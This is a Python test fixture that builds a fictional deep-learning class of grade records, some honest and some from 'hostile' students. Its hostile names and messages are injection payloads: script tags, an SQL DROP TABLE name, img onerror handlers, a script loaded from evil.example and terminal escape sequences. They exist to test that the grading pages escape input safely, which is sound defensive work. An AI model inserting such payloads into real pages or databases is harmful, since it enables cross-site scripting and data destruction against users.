"""A made-up class for the tests of the pages: honest answers, honest mistakes, and names and messages that attack."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

from course_lib.grade.class_settings import ClassSettings, LessonSettings
from course_lib.grade.record import ExerciseResult, GradeRecord, Reason, State
from course_lib.grade.run_info import Layer, RunInfo
from course_lib.grade.student import Student
from course_lib.lessons import lesson
from course_lib.verdict import find_check

LESSON = "01_digits"
DEADLINE = datetime(2026, 12, 1, 22, 59, tzinfo=UTC)
GIVEN = "Ada Bo Chen Dilek Emeka Fatima Grace Hiro Ines Jamal Katja Liam Mei Nadia Olu Priya Quentin Rosa Sven Tomás"
FAMILY = "Lovelace Okafor Müller Nguyen Silva Çelik Kowalski Haddad Tanaka Ruiz O’Neill Lindqvist Van_den_Berg Petrov"

HOSTILE_NAMES = (
    "<script>alert(1)</script>",
    'Robert\'); DROP TABLE "grades";--',
    "\u202eevil desrever\x1b[31m\x07",
    "Z" + "\u0301\u0320\u035c" * 60 + "algo",
    "A" * 3000,
    "</bdi></h1><img src=x onerror=alert(2)>",
    "\ud800 half\x00 a\u2028person",
    "",
)
HOSTILE_MESSAGES = (
    "your code raised ValueError: </p><script src=//evil.example/x.js></script> at `<b>x</b>` while calling it.",
    "`logits` should be (3, 4); received <img src='https://evil.example/?q' onerror=\"x\">.",
    "your code raised RuntimeError: " + "\x1b[1;31m" + "no spaces here " * 900 + " while calling it.",
    "your code raised X: ``` `` ` `a` </code> &amp; &#x41; javascript:alert(1) while calling it.",
    "your code raised KeyError: " + "\n".join(f"line {n}" for n in range(80)) + " while calling it.",
)

MISTAKES: dict[str, tuple[tuple[Reason, str], ...]] = {
    "digits/split": (
        ("wrong", "group {n} has rows on both sides: the model would be tested on hands it has seen."),
        ("wrong", "another seed should hold out other groups; eight seeds all gave the same ones."),
        ("error", "your code raised NameError: name 'uniqe_{n}' is not defined at `uniqe_{n}[:k]` while calling it."),
    ),
    "digits/n_parameters": (("wrong", "a network {n} → 40 → 7 has {n}47 parameters; received {n}00."),),
    "digits/model": (
        ("wrong", "`logits` should be (5, {n}) floating-point; received shape ({n}, 5) float32."),
        ("error", "your code raised RuntimeError: mat1 and mat2 shapes cannot be multiplied ({n}x64 and 32x10) at "
         "`return self.out(x)` while calling the model."),
    ),
    "digits/untrained_loss": (("wrong", "`untrained_loss` for {n} classes should be 3.{n}; received 1.{n}."),),
    "digits/cross_entropy": (
        ("wrong", "`cross_entropy` should be finite; {n} of its 40 values are NaN or infinite."),
        ("wrong", "`loss` should be the framework's own type in the torch track; received numpy.ndarray. Compute it "
         "with the framework's operations, so that gradients and the accelerator reach it."),
    ),
    "digits/step": (
        ("wrong", "the weights after step 2 should be 0.{n} at (1, 0); received 0.{n}9."),
        ("timeout", "it computed for longer than 20 seconds and was ended."),
    ),
    "digits/train": (
        ("timeout", "it computed for longer than 20 seconds and was ended."),
        ("memory", "it needed more memory than an exercise may take, and was ended."),
    ),
    "digits/accuracy": (("wrong", "`accuracy` for 6 rows and {n} classes should be 0.5; received 0.{n}."),),
    "digits/challenge": (
        ("wrong", "at most 41 of 540 test digits, in 3 draws of three forms, may be wrong: half of what plain SGD "
         "misses; yours misses {n}."),
        ("unanswered", "not answered yet: replace the line `raise NotImplementedError` by your own code."),
        ("not handed in", "its answer cell is not in the notebook."),
    ),
}  # fmt: skip

OUTPUT = "epoch 1  loss 2.3026  accuracy 0.104\nepoch 2  loss 1.1187  accuracy 0.716\n\x1b[32mdone\x1b[0m  50%\r100%\n"
LAYERS = (
    Layer("landlock", True, "ABI 7: files only in its own empty folder, no network by TCP."),
    Layer("seccomp", True, "No sockets, no ptrace, no mounts, no new keys: 61 system calls are refused."),
    Layer("rlimits", True, "20 s of CPU, 4 GB of memory, 256 processes, files of 64 MB at most."),
    Layer("no new privileges", True, "setuid programs gain nothing."),
    Layer("subreaper", True, "Whatever outlives its cell is found and ended."),
    Layer("cgroup", False, "The kernel does not let this user make a group (EACCES on /sys/fs/cgroup)."),
    Layer("user namespace", False, "Docker refuses unshare(CLONE_NEWUSER): EPERM."),
)


def a_result(exercise: str, reason: Reason = "passed", message: str = "", **more: object) -> ExerciseResult:
    """A result as the grader makes it; `more` replaces fields."""
    found = next(e for e in lesson(LESSON).exercises if e.id == exercise)
    undecided = reason in ("not reached", "checker broke", "course cell failed", "grader ended")
    state: State = "passed" if reason == "passed" else "needs review" if undecided else "failed"
    hint = find_check(exercise).hint(1, "torch") if reason in ("wrong", "error") else ""
    mark = found.marks if state == "passed" else 0.0
    fields = {
        "title": found.title,
        "state": state,
        "mark": mark,
        "max_mark": found.marks,
        "hint": hint,
        "seconds": 0.02,
    }
    return ExerciseResult(exercise, reason=reason, message=message, **{**fields, **more})  # type: ignore[arg-type]


def a_record(student: Student, exercises: tuple[ExerciseResult, ...] = (), **more: object) -> GradeRecord:
    """A record of a torch notebook handed in on time; `more` replaces fields."""
    fields = {
        "file": f"{student.key}/digits_torch.ipynb", "sha256": "5e" * 32, "lesson": LESSON, "track": "torch",
        "submitted_at": (DEADLINE - timedelta(hours=7)).isoformat(), "late": None, "notes": (), "review": (),
        "output": OUTPUT, "output_bytes": len(OUTPUT), "seconds": 0.31, "cpu_seconds": 0.28, "peak_bytes": 210_000_000,
        "attempts": 1, "graded_at": "2026-12-02T09:14:03+00:00", "run": "3fa21c9be07d", "checks_sha256": "c0ffee" * 10,
        "versions": {"numpy": "2.4.6", "torch": "2.14.1"}, "sandbox": ("landlock", "seccomp"),
    }  # fmt: skip
    return GradeRecord(student=student, exercises=exercises, **{**fields, **more})  # type: ignore[arg-type]


def a_run(**more: object) -> RunInfo:
    """The run that made the sample; `more` replaces fields."""
    fields = {
        "run": "3fa21c9be07d", "started_at": "2026-12-02T09:13:40+00:00", "finished_at": "2026-12-02T09:15:02+00:00",
        "seed": 8_112_093_551, "n_slots": 2, "sandbox": LAYERS, "tracks": ("numpy", "torch", "jax"),
        "versions": {"course_lib": "0.1.0", "python": "3.11.9", "numpy": "2.4.6", "torch": "2.14.1", "jax": "0.10.2"},
        "checks_sha256": "c0ffee" * 10, "timeout_seconds": 20.0, "layout": "Canvas",
        "notes": ("__MACOSX was left out.",),
    }  # fmt: skip
    return RunInfo(**{**fields, **more})  # type: ignore[arg-type]


def settings() -> ClassSettings:
    """A class with a deadline and two marks for the step."""
    own = LessonSettings(deadline=DEADLINE, late_percent_per_day=10, late_days=3)
    return ClassSettings(name="Deep learning 101", lessons={LESSON: own}, weights={"digits/step": 2.0})


def a_class(n: int = 42, seed: int = 1, *, hostile: bool = False) -> list[GradeRecord]:
    """The records of n students, the strong ones and the others; with `hostile`, eight more who attack the pages."""
    rng = random.Random(seed)
    records = []
    for number in range(n):
        name = f"{rng.choice(GIVEN.split())} {rng.choice(FAMILY.split()).replace('_', ' ')}"
        student = Student(f"student_{number:03}", name, {"canvas_user_id": str(4000 + number)})
        records.append(_honest(student, rng))
    if hostile:
        records += [_hostile(Student(f"hostile_{i}", name), i) for i, name in enumerate(HOSTILE_NAMES)]
    return records


def _honest(student: Student, rng: random.Random) -> GradeRecord:
    track = rng.choice(("numpy", "torch", "torch", "torch", "jax"))
    skill = rng.betavariate(5, 1.3)
    results = [_try(exercise.id, skill, rng) for exercise in lesson(LESSON).exercises_of(track)]
    more: dict[str, object] = {"attempts": 1 + sum(r.reason in ("timeout", "memory") for r in results)}
    if rng.random() < 0.15:
        more["notes"] = (
            f"digits/split: its first line was gone; found again by the name `split` in cell {rng.randint(4, 30)}.",
        )
    if rng.random() < 0.08:
        more["review"] = ("digits/model: the process did not keep to the protocol.",)
    late = rng.choice((-50, -30, -9, -3, -1, -0.2, 5, 30)) + rng.random()
    return a_record(
        student, tuple(results), track=track, file=f"{student.key}/digits_{track}.ipynb",
        submitted_at=(DEADLINE + timedelta(hours=late)).isoformat(), seconds=rng.lognormvariate(-0.8, 0.7),
        peak_bytes=int(rng.lognormvariate(19.2, 0.3)), **more,
    )  # fmt: skip


def _try(exercise: str, skill: float, rng: random.Random) -> ExerciseResult:
    seconds = rng.lognormvariate(-4, 0.8)
    if rng.random() < 0.012:
        return a_result(exercise, "checker broke", f"The checker of {exercise} itself broke (KeyError: 'x').")
    if rng.random() < skill or exercise not in MISTAKES:
        return a_result(exercise, seconds=seconds)
    reason, message = rng.choice(MISTAKES[exercise])
    return a_result(exercise, reason, message.replace("{n}", str(rng.randint(3, 90))), seconds=seconds)


def _hostile(student: Student, place: int) -> GradeRecord:
    message = HOSTILE_MESSAGES[place % len(HOSTILE_MESSAGES)]
    results = (a_result("digits/split", "error", message, hint="<i>hint</i>"), a_result("digits/step", "crash", "<u>"))
    return a_record(
        student, results, file=f"</p><script>{'x' * 300}.ipynb", notes=(message,), review=(message,),
        output="</pre><script>1</script>" + "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07" * 99, output_bytes=9**12,
    )  # fmt: skip
